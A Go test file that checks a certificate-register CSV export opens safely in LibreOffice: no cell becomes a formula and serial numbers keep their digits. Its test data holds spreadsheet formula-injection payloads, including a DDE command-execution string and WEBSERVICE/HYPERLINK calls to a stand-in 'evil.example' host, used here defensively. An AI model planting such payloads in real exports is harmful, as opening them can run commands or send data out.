package main

import (
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"certstate"
	"certstate/edm"
	"certstate/odata"
	"certstate/store/storetest"
	"certstate/store/storetest/load"
)

// What people and devices call themselves, and serial numbers as they are written.
var (
	formulas = []string{"=1+1", "+1+1", "-1-1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "'=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")",
		"=WEBSERVICE(\"http://evil.example\")", "a\",=1+1,\"", "a\r\n=1+1", ";=1+1", "\ufeff=1+1", "＝1+1", "LAPTOP-0042"}
	serials = []string{"0", "7", "00", "007", "12345678901", "123456789012", "1234567890123456", "0012345678901234567890", "12345678901234567890", "99999999999999999999999999999999999999999999999999",
		"12E45", "1e5", "0E0", "1E400", "12:34:56", "00:0a:1b", "12 34 56", "12-34-56", "1-2", "3/4", "1.5", "1,5", "1.2.840.113549", "0x10A0", "10A0", "-5", "+5", "5%", "2026-01-31"}
)

// LibreOffice opens the CSV as a person does who presses Enter: nothing in it is
// a formula, and every serial number is there with all its digits.
func TestExportOpensInLibreOffice(t *testing.T) {
	if _, err := exec.LookPath("soffice"); err != nil {
		t.Skip("SKIPPED: LibreOffice opens the CSV (install libreoffice-calc)")
	}
	url := storetest.Engines[0].URL(t)
	s := newRegister(t, url)
	var records []certstate.State
	var want []string
	for i, serial := range serials {
		records = append(records, certstate.State{ID: edm.Str(strconv.Itoa(i)), Serial: edm.Str(serial), Thumbprint: edm.Str(serial), DeviceName: edm.Str(formulas[i%len(formulas)]), Subject: edm.Str(formulas[i%len(formulas)])})
		want = append(want, serial)
	}
	load.Records(t, s, tenantOf(t, s, toTenant), records)
	text := command(t, "export", "--database", url, "--tenant", toTenant, "--select", "certificateSerialNumber,certificateThumbprint,managedDeviceDisplayName,certificateSubjectName")
	if faults := openedBadly(t, text, want); faults != nil {
		t.Errorf("%d faults: %q", len(faults), faults)
	}

	// The same without apostrophes, so that this test is known to notice.
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var bare strings.Builder
	w := csv.NewWriter(&bare)
	for _, row := range rows {
		for i := range row {
			row[i] = odata.UnguardCell(row[i])
		}
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if faults := openedBadly(t, bare.String(), want); !slices.Contains(faults, "a formula: of:=1+1") || !slices.Contains(faults, "12E45 is 1.2E+046") {
		t.Errorf("without apostrophes LibreOffice makes nothing of the cells: %q", faults)
	}
}

// openedBadly opens a CSV whose first column has serial numbers, and tells what
// LibreOffice made of it.
func openedBadly(t *testing.T, text string, serials []string) (faults []string) {
	t.Helper()
	rows := opened(t, text)
	if len(rows) != len(serials)+1 {
		return []string{fmt.Sprintf("%d rows for %d records", len(rows)-1, len(serials))}
	}
	for i, row := range rows {
		for _, cell := range row.Cells {
			if cell.Formula != "" {
				faults = append(faults, "a formula: "+cell.Formula)
			}
		}
		if i == 0 {
			continue
		}
		for _, cell := range row.Cells[:2] {
			if got := odata.UnguardCell(cell.text()); got != serials[i-1] {
				faults = append(faults, serials[i-1]+" is "+got)
			}
		}
	}
	return faults
}

// sheetRow and sheetCell are what a flat OpenDocument spreadsheet has.
type sheetRow struct {
	Cells []sheetCell `xml:"table-cell"`
}

type sheetCell struct {
	Formula    string   `xml:"formula,attr"`
	Value      string   `xml:"value,attr"`
	Repeated   int      `xml:"number-columns-repeated,attr"`
	Paragraphs []string `xml:"p"`
}

// text is the value: of a number what it is, of a text what it says.
func (c *sheetCell) text() string {
	if c.Value != "" {
		return c.Value
	}
	return strings.Join(c.Paragraphs, "\n")
}

// opened has LibreOffice open a CSV, and returns the rows of its sheet.
func opened(t *testing.T, text string) (rows []sheetRow) {
	t.Helper()
	dir := t.TempDir()
	file := filepath.Join(dir, "export.csv")
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), "soffice", "-env:UserInstallation=file://"+dir+"/profile", "--headless",
		"--infilter=Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true", "--convert-to", "fods", "--outdir", dir, file)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v: %s", err, out)
	}
	b, err := os.ReadFile(filepath.Join(dir, "export.fods"))
	if err != nil {
		t.Fatal(err)
	}
	var document struct {
		Rows []sheetRow `xml:"body>spreadsheet>table>table-row"`
	}
	if err := xml.Unmarshal(b, &document); err != nil {
		t.Fatal(err)
	}
	for _, row := range document.Rows {
		var cells []sheetCell
		for _, cell := range row.Cells {
			for range max(1, min(cell.Repeated, 8)) {
				cells = append(cells, cell)
			}
		}
		if len(cells) >= 4 && (cells[0].text() != "" || cells[2].text() != "") {
			rows = append(rows, sheetRow{cells})
		}
	}
	return rows
}
